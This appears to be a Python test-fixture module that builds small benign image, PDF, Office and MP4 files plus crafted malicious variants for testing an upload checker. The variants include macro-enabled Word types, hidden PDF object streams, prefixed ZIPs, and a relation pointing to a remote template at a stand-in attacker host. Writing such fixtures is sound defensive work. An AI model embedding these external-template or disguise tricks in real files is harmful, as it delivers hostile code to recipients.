"""Small real files of every kind, and their evil twins."""

import io
import struct
import zipfile
import zlib

import openpyxl
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
OFFICE_RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def upload(content, name="文件"):
    return SimpleUploadedFile(name, content, content_type="application/octet-stream")


def image(form="JPEG", size=(40, 30), mode="RGB", **saving):
    out = io.BytesIO()
    Image.new(mode, size, "red" if mode == "RGB" else 0).save(out, form, **saving)
    return out.getvalue()


def photo_with_position():
    """A JPEG lying on its side (orientation 6), with a position, a camera and a comment."""
    exif = Image.Exif()
    exif[0x0112], exif[0x0110] = 6, "SECRET-CAMERA"
    exif.get_ifd(0x8825)[2] = (40.0, 50.0, 12.0)
    return image(size=(40, 30), exif=exif, comment=b"SECRET-COMMENT")


def pdf(body=b"", tail=b"%%EOF\n"):
    return b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog " + body + b" >>\nendobj\ntrailer << /Root 1 0 R >>\n" + tail


def pdf_with_objects(objects, packing=zlib.compress, filters=b"/Filter /FlateDecode"):
    """A PDF that keeps `objects` in a packed object stream."""
    packed = packing(b"5 0 " + objects)
    stream = b"2 0 obj\n<< /Type /ObjStm /N 1 /First 4 " + filters + b" >>\nstream\n" + packed + b"\nendstream\nendobj\n"
    return pdf().replace(b"trailer", stream + b"trailer")


def zipped(parts, before=b""):
    out = io.BytesIO(before)
    out.seek(0, 2)
    with zipfile.ZipFile(out, "a" if before else "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def content_types(*types, head='<?xml version="1.0"?>'):
    inner = "".join(f'<Override PartName="/p{number}" ContentType="{kind}"/>' for number, kind in enumerate(types))
    return f'{head}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">{inner}</Types>'


def docx(more=None, types=(WORD_MAIN,), **kwargs):
    return zipped({"[Content_Types].xml": content_types(*types), "word/document.xml": "<w/>", **(more or {})}, **kwargs)


def relations(kind, target="http://evil.example/t.dotm", mode="External"):
    relation = f'<Relationship Id="r1" Type="{OFFICE_RELATION}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    return f"<Relationships>{relation}</Relationships>"


def xlsx():
    out = io.BytesIO()
    openpyxl.Workbook().save(out)
    return out.getvalue()


def box(kind, body=b""):
    return struct.pack(">I4s", 8 + len(body), kind) + body


def mp4(*, brand=b"isom", moov=b"", tail=b""):
    mvhd = box(b"mvhd", bytes(100))
    return box(b"ftyp", brand + b"\0\0\2\0isommp42") + box(b"moov", mvhd + moov) + box(b"mdat", b"film" * 10) + tail
